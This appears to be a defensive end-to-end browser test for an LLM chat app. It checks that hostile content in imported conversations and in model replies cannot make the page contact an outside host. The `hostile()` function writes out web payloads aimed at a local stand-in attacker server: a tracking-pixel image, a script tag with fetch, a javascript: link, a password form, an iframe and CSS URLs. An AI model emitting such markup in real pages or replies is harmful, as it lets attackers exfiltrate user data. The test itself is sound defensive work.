"""Issue #12.7 in real Chromium: hostile content in a conversation (imported, and what the model
writes after reading it) must not make the page contact another host. A local HTTP listener on
127.0.0.1 stands in for the attacker's server and must receive nothing: not for a markdown image,
an <img>, a <form> with a typed password, a <script>, a javascript: link, an iframe or a stylesheet."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from gradio_client import Client, handle_file

from tests.e2e.conftest import sampling
from tests.e2e.polling import wait_until
from tests.e2e.browser import launch_chromium, require_chromium

pytestmark = pytest.mark.slow


@pytest.fixture
def listener():
    hits = []

    class Handler(BaseHTTPRequestHandler):
        def _any(self):
            hits.append((self.command, self.path))
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        do_GET = do_POST = do_HEAD = do_OPTIONS = _any

        def log_message(self, *args):
            pass

    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{srv.server_address[1]}", hits
    finally:
        srv.shutdown()


def hostile(base: str) -> str:
    return "\n\n".join(
        [
            f"![pixel]({base}/md-image.png)",
            f'<img src="{base}/img-tag.png">',
            f'<form action="{base}/form" method="post"><input type="password" name="pw" id="pw">'
            f'<button type="submit">Log in</button></form>',
            f'<script>fetch("{base}/script")</script>',
            f"[click me](javascript:fetch('{base}/js-link'))",
            f'<iframe src="{base}/iframe"></iframe>',
            f'<link rel="stylesheet" href="{base}/style.css">',
            f'<div style="background:url({base}/css-bg.png)">styled</div>',
            f"<{base}/autolink>",
        ]
    )


def test_no_message_content_reaches_another_host(launch, listener, tmp_path):
    require_chromium()
    base, hits = listener
    server = launch()
    export = {
        "format": "llm-chat-conversation",
        "version": 1,
        "conversation": {"title": "hostile"},
        "messages": [
            {"id": 1, "parent_id": None, "role": "user", "content": "Look: " + hostile(base)},
            {"id": 2, "parent_id": 1, "role": "assistant", "content": hostile(base)},
        ],
    }
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(export))
    api = Client(server.url, verbose=False)
    conv = api.predict(handle_file(str(path)), api_name="/import_json")[2]["value"]
    assert conv
    # What the model writes after reading it (shown live as two alternatives, then stored).
    api.predict(
        "Repeat the last message exactly, including every link and tag.",
        *sampling(max_tokens=48, n=2, temperature=0.8, seed=1),
        api_name="/send",
    )
    api.predict(api_name="/close_tab")

    import playwright.sync_api as sync_api

    with sync_api.sync_playwright() as p:
        b = launch_chromium(p)
        try:
            page = b.new_page()
            page.goto(f"{server.url}?c={conv}")
            wait_until(
                lambda: page.locator("#chatbot .message").count() >= 4,
                timeout=60,
                what="the hostile chat to render",
            )
            bubbles = page.locator("#chatbot")
            assert "image: pixel" in bubbles.inner_text()  # the image became a link
            assert (
                bubbles.locator(
                    "img[src*='127.0.0.1'], form, iframe, script, input[type=password]"
                ).count()
                == 0
            )
            assert bubbles.locator("a[href^='javascript']").count() == 0
            # A regenerate with n=2 paints model text as alternatives in the page itself.
            page.locator("#sampling .label-wrap").first.click()  # open the sampling settings
            for elem_id, value in (("max-tokens", 40), ("n-alternatives", 2)):
                box = page.locator(f"#{elem_id} input[type=number]")
                box.fill(str(value))
                box.press("Enter")
            page.click("#regenerate")
            wait_until(lambda: page.locator("#alt-1").is_visible(), timeout=60, what="alternatives")
            page.wait_for_timeout(3000)
        finally:
            b.close()
    assert hits == [], f"the page contacted the listener: {hits}"
